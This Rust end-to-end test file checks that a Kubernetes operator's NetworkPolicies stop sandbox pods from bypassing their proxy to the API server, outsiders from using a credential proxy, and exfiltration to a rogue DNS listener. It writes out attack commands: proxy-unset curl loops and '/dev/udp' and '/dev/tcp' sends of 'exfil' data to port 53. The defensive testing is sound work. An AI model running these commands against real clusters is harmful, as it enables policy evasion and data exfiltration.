//! What the NetworkPolicies must stop, with the enforcer `make run` starts: a sandbox going
//! around its proxy to the API server, strangers using the instance's credential proxy, and
//! a sandbox sending data to a DNS listener of its own.

use std::io::ErrorKind;
use std::net::{Ipv4Addr, SocketAddr, TcpListener, UdpSocket};
use std::os::fd::AsFd;
use std::path::PathBuf;
use std::time::Duration;

use cli_mcp_api::crd::CliMcpInstance;
use cli_mcp_e2e::addons::{in_netns, tcp_reach, Reach};
use cli_mcp_e2e::testing::wait_for_set;
use k8s_openapi::api::core::v1::{Namespace, Pod, Service};
use k8s_openapi::api::discovery::v1::EndpointSlice;
use kube::api::{DeleteParams, ListParams, ObjectMeta, PostParams};
use kube::Api;
use serde_json::json;

use super::{remove_pod, run_pod, sleeper, Outcome, Target, START_WITHIN};

/// A namespace of someone else's, with a pod of theirs.
const STRANGER_NS: &str = "cli-mcp-attack-stranger";
/// A second instance in the same namespace: its sandboxes are not the first one's.
const OTHER_INSTANCE: &str = "attack-other";

pub async fn run(t: &Target) -> Vec<Outcome> {
    let mut out = vec![direct_api_egress(t).await];
    let stranger = stranger_pod(t).await;
    out.extend(strangers_reach_the_proxy(t, &stranger).await);
    out.push(dns_to_a_listener_of_the_sandbox(t, &stranger).await);
    let _ = Api::<Namespace>::all(t.admin.clone())
        .delete(STRANGER_NS, &DeleteParams::default())
        .await;
    out
}

async fn stranger_pod(t: &Target) -> Pod {
    let ns = Namespace {
        metadata: ObjectMeta {
            name: Some(STRANGER_NS.into()),
            ..Default::default()
        },
        ..Default::default()
    };
    Api::<Namespace>::all(t.admin.clone())
        .create(&PostParams::default(), &ns)
        .await
        .expect("creating the stranger's namespace");
    run_pod(&t.admin, STRANGER_NS, &sleeper("stranger", &t.image, &[])).await
}

fn pod_ip(p: &Pod) -> Ipv4Addr {
    p.status
        .as_ref()
        .and_then(|s| s.pod_ip.as_deref())
        .and_then(|ip| ip.parse().ok())
        .unwrap_or_else(|| panic!("pod {:?} has no IPv4 address", p.metadata.name))
}

/// The API server's own address (the `kubernetes` Service's endpoint).
async fn api_endpoint(t: &Target) -> SocketAddr {
    let slices = Api::<EndpointSlice>::namespaced(t.admin.clone(), "default")
        .list(&ListParams::default().labels("kubernetes.io/service-name=kubernetes"))
        .await
        .expect("the kubernetes Service's EndpointSlices");
    let slice = slices
        .items
        .first()
        .expect("an EndpointSlice of kubernetes");
    let ip = slice
        .endpoints
        .as_ref()
        .and_then(|e| e.first())
        .and_then(|e| e.addresses.first())
        .and_then(|a| a.parse().ok())
        .expect("an endpoint address");
    let port = slice
        .ports
        .as_ref()
        .and_then(|p| p.first())
        .and_then(|p| p.port)
        .expect("an endpoint port");
    SocketAddr::new(ip, port as u16)
}

/// The sandbox unsets its proxy and calls the API server by Service IP, by name and by the
/// endpoint's own address. Before: `/version` answered 200 on all three.
async fn direct_api_egress(t: &Target) -> Outcome {
    let s = "attack-egress";
    let via_proxy = t
        .bash(s, "kubectl get --raw /version >/dev/null && echo proxied")
        .await;
    assert!(
        via_proxy.stdout.contains("proxied"),
        "positive control: the API through the proxy: {}",
        via_proxy.text
    );
    let ep = api_endpoint(t).await;
    let cmd = format!(
        "for u in https://10.96.0.1:443 https://kubernetes.default.svc https://{ep}; do \
         env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy \
         curl -sk -m 5 -o /dev/null -w \"$u %{{http_code}}\\n\" \"$u/version\"; done"
    );
    let r = t.bash(s, &cmd).await;
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(lines.len(), 3, "one line per address: {}", r.text);
    for l in &lines {
        assert!(
            l.ends_with(" 000"),
            "the sandbox reached the API server without its proxy: {l}\n{}",
            r.text
        );
    }
    t.end(s).await;
    Outcome::new(
        "sandbox calls the API server directly, proxy unset (Service IP, name, endpoint)",
        format!(
            "sandbox egress policy: no connection ({})",
            lines.join("; ")
        ),
    )
}

/// A pod of the namespace, a pod of another namespace and another instance's sandbox try
/// the instance's credential proxy. Before: each got the investigation identity.
async fn strangers_reach_the_proxy(t: &Target, stranger: &Pod) -> Vec<Outcome> {
    let proxy = proxy_address(t).await;
    let s = "attack-proxy-control";
    let control = t
        .bash(
            s,
            &format!(
                "exec 3<>/dev/tcp/{}/{} && echo open",
                proxy.ip(),
                proxy.port()
            ),
        )
        .await;
    assert!(
        control.stdout.contains("open"),
        "positive control: the instance's own sandbox reaches its proxy at {proxy}: {}",
        control.text
    );
    t.end(s).await;

    let stray = run_pod(&t.admin, &t.ns, &sleeper("attack-stray", &t.image, &[])).await;
    let other = other_instance_sandbox(t).await;
    let mut out = Vec::new();
    for (attack, pod) in [
        (
            "a stray pod of the instance's namespace uses its proxy",
            &stray,
        ),
        ("a pod of another namespace uses the proxy", stranger),
        ("another instance's sandbox uses the proxy", &other),
    ] {
        let reach = reach_from(t.netns(pod), proxy);
        assert!(
            matches!(reach, Reach::Refused | Reach::TimedOut),
            "{attack}: {:?} connected to the proxy {proxy}: {reach:?}",
            pod.metadata.name
        );
        out.push(Outcome::new(
            attack,
            format!("proxy ingress policy: connection {reach:?}"),
        ));
    }
    remove_pod(&t.admin, &t.ns, "attack-stray").await;
    let _ = Api::<CliMcpInstance>::namespaced(t.admin.clone(), &t.ns)
        .delete(OTHER_INSTANCE, &DeleteParams::default())
        .await;
    out
}

async fn proxy_address(t: &Target) -> SocketAddr {
    let name = format!("cli-mcp-{}-proxy", t.instance);
    let svc = Api::<Service>::namespaced(t.admin.clone(), &t.ns)
        .get(&name)
        .await
        .expect("the proxy Service");
    let ip = svc
        .spec
        .and_then(|s| s.cluster_ip)
        .and_then(|ip| ip.parse().ok())
        .expect("the proxy's ClusterIP");
    SocketAddr::new(ip, cli_mcp_api::proxy::PROXY_PORT)
}

fn reach_from(netns: PathBuf, addr: SocketAddr) -> Reach {
    in_netns(&netns, move || tcp_reach(addr, Duration::from_secs(3)))
        .unwrap_or_else(|e| panic!("{e}"))
}

/// A second instance beside the first, sharing its kubeconfig Secret, with one warm pod:
/// that pod is a real sandbox of another instance.
async fn other_instance_sandbox(t: &Target) -> Pod {
    let api = Api::<CliMcpInstance>::namespaced(t.admin.clone(), &t.ns);
    let cr: CliMcpInstance = serde_json::from_value(json!({
        "apiVersion": "cli-mcp.redhat.com/v1alpha1",
        "kind": "CliMcpInstance",
        "metadata": {"name": OTHER_INSTANCE},
        "spec": {
            "replicas": 1,
            "sandbox": {
                "warmPoolSize": 1,
                "kubeconfigSecret": format!("cli-mcp-{}-kubeconfig", t.instance),
            },
        },
    }))
    .expect("instance");
    api.create(&PostParams::default(), &cr)
        .await
        .expect("creating the second instance");
    let selector = format!(
        "cli-mcp.redhat.com/instance={OTHER_INSTANCE},cli-mcp.redhat.com/component=sandbox"
    );
    let pods = wait_for_set(
        Api::<Pod>::namespaced(t.admin.clone(), &t.ns),
        &selector,
        "a running sandbox of the second instance",
        START_WITHIN,
        |pods: &[Pod]| pods.iter().any(running),
    )
    .await
    .unwrap_or_else(|e| panic!("{e}"));
    pods.into_iter()
        .find(running)
        .expect("the running sandbox just seen")
}

fn running(p: &Pod) -> bool {
    p.status
        .as_ref()
        .and_then(|s| s.container_statuses.as_ref())
        .is_some_and(|c| {
            c.iter()
                .all(|c| c.state.as_ref().is_some_and(|s| s.running.is_some()))
        })
}

/// A listener on UDP and TCP 53 in the stranger's pod; the sandbox sends it a datagram and
/// opens a connection, then the node (always allowed) sends a control datagram. Everything
/// the listener got before the control is what got through. Before: both did.
async fn dns_to_a_listener_of_the_sandbox(t: &Target, stranger: &Pod) -> Outcome {
    let ip = pod_ip(stranger);
    let listener = Listener::start(t.netns(stranger));
    let s = "attack-dns";
    let cluster_dns = t.bash(s, "getent hosts kubernetes.default.svc").await;
    assert!(
        cluster_dns.stdout.contains("10.96.0.1"),
        "positive control: the sandbox resolves through cluster DNS: {}",
        cluster_dns.text
    );
    let r = t
        .bash(
            s,
            &format!(
                "printf exfil >/dev/udp/{ip}/53; echo sent; \
                 (exec 3<>/dev/tcp/{ip}/53) 2>/dev/null && echo tcp-open || echo tcp-refused"
            ),
        )
        .await;
    assert!(r.stdout.contains("sent"), "{}", r.text);
    t.end(s).await;
    let got = listener.finish(ip);
    assert!(
        got.datagrams.is_empty() && !got.tcp_connected && r.stdout.contains("tcp-refused"),
        "the sandbox reached a DNS listener outside cluster DNS: datagrams {:?}, TCP \
         connected {} ({})",
        got.datagrams,
        got.tcp_connected,
        r.text
    );
    Outcome::new(
        "sandbox sends data to its own DNS listener in another namespace (UDP, TCP 53)",
        "sandbox egress policy: DNS only to kube-system's kube-dns pods".into(),
    )
}

struct Heard {
    datagrams: Vec<Vec<u8>>,
    tcp_connected: bool,
}

struct Listener {
    thread: std::thread::JoinHandle<Heard>,
}

const CONTROL: &[u8] = b"control";

impl Listener {
    /// Binds UDP and TCP 53 inside `netns` and listens until the control datagram.
    fn start(netns: PathBuf) -> Listener {
        let (ready_tx, ready_rx) = std::sync::mpsc::channel();
        let thread = std::thread::spawn(move || {
            let ns = std::fs::File::open(&netns).expect("netns");
            nix::sched::setns(ns.as_fd(), nix::sched::CloneFlags::CLONE_NEWNET).expect("setns");
            let udp = UdpSocket::bind("0.0.0.0:53").expect("UDP 53 in the stranger's pod");
            let tcp = TcpListener::bind("0.0.0.0:53").expect("TCP 53 in the stranger's pod");
            tcp.set_nonblocking(true).expect("nonblocking");
            udp.set_read_timeout(Some(Duration::from_secs(120)))
                .expect("timeout");
            ready_tx.send(()).expect("ready");
            let mut heard = Heard {
                datagrams: Vec::new(),
                tcp_connected: false,
            };
            let mut buf = [0u8; 512];
            loop {
                match udp.recv_from(&mut buf) {
                    Ok((n, _)) if &buf[..n] == CONTROL => break,
                    Ok((n, _)) => heard.datagrams.push(buf[..n].to_vec()),
                    Err(e) if e.kind() == ErrorKind::Interrupted => continue,
                    Err(e) => panic!("the listener heard no control datagram: {e}"),
                }
            }
            // The kernel completes a handshake for a listening socket without accept().
            heard.tcp_connected = tcp.accept().is_ok();
            heard
        });
        ready_rx
            .recv_timeout(Duration::from_secs(10))
            .expect("the listener is ready");
        Listener { thread }
    }

    /// Sends the control datagram from the node and returns what was heard before it.
    fn finish(self, ip: Ipv4Addr) -> Heard {
        let udp = UdpSocket::bind("0.0.0.0:0").expect("UDP socket on the node");
        udp.send_to(CONTROL, (ip, 53)).expect("control datagram");
        self.thread.join().expect("listener thread")
    }
}
